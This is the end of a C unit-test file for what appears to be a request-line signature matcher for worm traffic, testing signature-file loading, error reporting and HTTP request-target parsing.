/* test_load_file - files: a real one and a missing one */
static void test_load_file(void)
{
    char path[] = "/tmp/wr-test-sigs-XXXXXX";
    const char *err = NULL;
    wr_sigset_t *set = new_set();
    wr_match_t m;
    apr_status_t rv;
    int fd = mkstemp(path);
    static const char text[] = "family mine on\nmine raw ^/mine/\nmine raw (\n";

    if (check(fd >= 0, "temp file")) {
        check_int(write(fd, text, sizeof(text) - 1), sizeof(text) - 1,
                  "write temp file");
        close(fd);
        rv = wr_sigset_load_file(set, path, &err);
        check_int(rv, APR_EINVAL, "file with a bad line 3");
        check(has(err, path) && has(err, ":3: "), "names path:3: %s",
              err ? err : "(null)");
        check(wr_match_line(set, 1, "GET /mine/x", 11, &m)
              && has(m.origin, ":2"), "patterns before the error are kept");
        unlink(path);
    }
    set = new_set();
    err = NULL;
    rv = wr_sigset_load_file(set, "/nonexistent/wr-sigs.conf", &err);
    check(APR_STATUS_IS_ENOENT(rv), "missing file: ENOENT (got %d)", rv);
    check(has(err, "/nonexistent/wr-sigs.conf"), "message names the file: %s",
          err ? err : "(null)");
    check_int(wr_sigset_family_count(set), 0, "nothing loaded");
}

/* target_of - wr_requestline_target into a static string */
static const char *target_of(const char *line)
{
    static char buf[128];
    const char *t;
    size_t n;

    wr_requestline_target(line, strlen(line), &t, &n);
    if (n >= sizeof(buf) || (n > 0 && (t < line || t + n > line
                                                            + strlen(line)))) {
        return "(out of range)";
    }
    memcpy(buf, t, n);
    buf[n] = '\0';
    return buf;
}

/* test_requestline_target - how a request line is split */
static void test_requestline_target(void)
{
    check_str(target_of("GET /x HTTP/1.0"), "/x", "method target protocol");
    check_str(target_of("GET /x"), "/x", "no protocol (HTTP/0.9)");
    check_str(target_of("/x"), "/x", "bare target");
    check_str(target_of("/x HTTP/1.1"), "/x", "bare target with protocol");
    check_str(target_of("GET   /x   HTTP/1.1  "), "/x", "extra spaces");
    check_str(target_of("GET /x HTTP/1.0\r\n"), "/x", "CRLF");
    check_str(target_of("GET /a b c HTTP/1.0"), "/a b c",
              "raw spaces stay in the target");
    check_str(target_of("GET /a HTTPX"), "/a HTTPX",
              "a last word that is no protocol stays");
    check_str(target_of("OPTIONS * HTTP/1.1"), "*", "asterisk form");
    check_str(target_of("GET http://h/x HTTP/1.1"), "http://h/x",
              "absolute form");
    check_str(target_of("GET"), "", "method alone");
    check_str(target_of(""), "", "empty line");
    check_str(target_of("   "), "", "blanks");
    check_str(classify(""), "-", "empty line does not match");
    check_str(classify("GET"), "-", "method alone does not match");
}

int main(int argc, const char *const *argv)
{
    apr_app_initialize(&argc, &argv, NULL);
    apr_pool_create(&pool, NULL);
    test_builtin();
    test_nimda_scan();
    test_codered();
    test_precision();
    test_iis();
    test_target_only();
    test_order_and_mask();
    test_subjects();
    test_prefilter_off();
    test_add_errors();
    test_family_names();
    test_load_buffer();
    test_family_attrs();
    test_load_file();
    test_requestline_target();
    check(split_differs == 0 && split_lines > 100,
          "wr_match_suspect + wr_match_suspected, and wr_match_suspected "
          "alone, == wr_match_request on every line classified (%d lines, "
          "%d differ)", split_lines,
          split_differs);
    apr_pool_destroy(pool);
    apr_terminate();
    return done_testing();
}
